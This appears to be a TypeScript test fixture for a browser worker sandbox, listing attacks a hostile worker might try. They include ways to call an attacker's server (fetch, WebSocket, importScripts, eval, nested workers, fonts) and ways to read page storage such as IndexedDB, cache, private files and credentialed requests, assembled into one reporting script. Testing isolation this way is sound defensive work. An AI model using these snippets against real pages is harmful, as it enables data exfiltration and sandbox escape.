/**
 * What somebody who owns the worker outright would try, in JavaScript, each on its own.
 *
 * `evil` is an address of the attacker's server that names the attack, `site` that of the page's own folder; `wait`
 * gives something time to happen. A `reads` attack returns what it got hold of.
 */
interface Attack {
  readonly name: string;
  readonly code: string;
}

const nested = (code: string, options = "") => `
  const script = ${JSON.stringify(code)}.replaceAll("EVIL", evil);
  new Worker(URL.createObjectURL(new Blob([script], { type: "text/javascript" }))${options});
  await wait();`;

/** Ways to reach the attacker's server. */
export const calls: readonly Attack[] = [
  { name: "fetch", code: `await fetch(evil);` },
  { name: "fetch-no-cors", code: `await fetch(evil, { mode: "no-cors" });` },
  {
    name: "fetch-keepalive",
    code: `await fetch(evil, { method: "POST", body: "x", keepalive: true, mode: "no-cors" });`,
  },
  {
    name: "xhr",
    code: `const x = new XMLHttpRequest(); x.open("GET", evil); x.send(); await wait();`,
  },
  {
    name: "xhr-synchronous",
    code: `const x = new XMLHttpRequest(); x.open("GET", evil, false); x.send();`,
  },
  { name: "event-source", code: `new EventSource(evil); await wait();` },
  { name: "web-socket", code: `new WebSocket(evil.replace("http", "ws")); await wait();` },
  { name: "import", code: `await import(evil);` },
  { name: "import-scripts", code: `importScripts(evil);` },
  {
    name: "import-by-data-module",
    code: `await import("data:text/javascript,import " + JSON.stringify(evil));`,
  },
  {
    name: "import-by-blob-module",
    code: `await import(URL.createObjectURL(
      new Blob(["import " + JSON.stringify(evil)], { type: "text/javascript" })));`,
  },
  { name: "function-constructor", code: `await new Function("url", "return fetch(url)")(evil);` },
  { name: "eval", code: `await (0, eval)("fetch(" + JSON.stringify(evil) + ")");` },
  {
    name: "string-timer",
    code: `setTimeout("fetch(" + JSON.stringify(evil) + ")"); await wait();`,
  },
  { name: "compile-streaming", code: `await WebAssembly.compileStreaming(fetch(evil));` },
  { name: "worker-fetch", code: nested(`fetch("EVIL", { mode: "no-cors" })`) },
  { name: "worker-import-scripts", code: nested(`importScripts("EVIL")`) },
  { name: "worker-module", code: nested(`import "EVIL"`, `, { type: "module" }`) },
  {
    name: "worker-web-socket",
    code: nested(`new WebSocket("EVIL".replace("http", "ws"))`),
  },
  {
    name: "worker-of-worker",
    code: nested(`new Worker(URL.createObjectURL(new Blob(['fetch("EVIL")'])))`),
  },
  {
    name: "worker-by-data",
    code: `new Worker("data:text/javascript,fetch(" + JSON.stringify(evil) + ")"); await wait();`,
  },
  { name: "cache-add", code: `await (await caches.open("x")).add(evil);` },
  {
    name: "font",
    code: `await new FontFace("x", "url(" + JSON.stringify(evil) + ")").load();`,
  },
];

/** Ways to get hold of what belongs to the page; each returns it. The page keeps the word in each of these places. */
export const reads: readonly Attack[] = [
  {
    name: "indexed-db",
    code: `return await new Promise((resolve, reject) => {
      const opening = indexedDB.open("treasure");
      opening.onerror = () => reject(opening.error);
      opening.onsuccess = () => {
        const asking = opening.result.transaction("words").objectStore("words").get("word");
        asking.onsuccess = () => resolve(asking.result);
      };
    });`,
  },
  {
    name: "cache-storage",
    code: `return await (await caches.match(site + "cached-word")).text();`,
  },
  {
    name: "private-files",
    code: `const folder = await navigator.storage.getDirectory();
      return await (await (await folder.getFileHandle("word")).getFile()).text();`,
  },
  {
    name: "locks",
    code: `return (await navigator.locks.query()).held.map(({ name }) => name).join();`,
  },
  {
    name: "own-file",
    code: `return await (await fetch(site + "word.txt", { credentials: "include" })).text();`,
  },
  {
    name: "own-file-synchronous",
    code: `const x = new XMLHttpRequest(); x.open("GET", site + "word.txt", false); x.send();
      return x.responseText;`,
  },
];

/** The channel on which an attack tries to speak to the page past its frame. */
export const sideChannel = "treasure-hunt";

/** What each attack came to, as the attacker's script tells it. */
export interface AttackReport {
  readonly name: string;
  /** What a `reads` attack got. */
  readonly got: string | null;
  readonly error: string | null;
}

/** A worker's script that tries everything at once, hands the list of `AttackReport` to `tell` and stays alive. */
export function attackScript(evilUrl: string, siteUrl: string, tell: string): string {
  const attempts = [...calls, ...reads].map(
    ({ name, code }) => `attempt(${JSON.stringify(name)}, async (evil, site, wait) => { ${code} })`,
  );
  return `
    const wait = () => new Promise((resolve) => setTimeout(resolve, 1500));
    async function attempt(name, attack) {
      const evil = ${JSON.stringify(evilUrl)} + name;
      const late = wait().then(wait).then(() => { throw new Error("nothing happened"); });
      try {
        const got = await Promise.race([attack(evil, ${JSON.stringify(siteUrl)}, wait), late]);
        return { name, got: got === undefined ? null : String(got), error: null };
      } catch (error) {
        return { name, got: null, error: String(error) };
      }
    }
    // An error that nobody handles would end the worker before the other attacks are through.
    addEventListener("error", (event) => event.preventDefault());
    async function attack() {
      try { new BroadcastChannel(${JSON.stringify(sideChannel)}).postMessage("hello"); } catch {}
      const reports = await Promise.all([${attempts.join(",\n")}]);
      (${tell})(JSON.stringify(reports));
    }`;
}
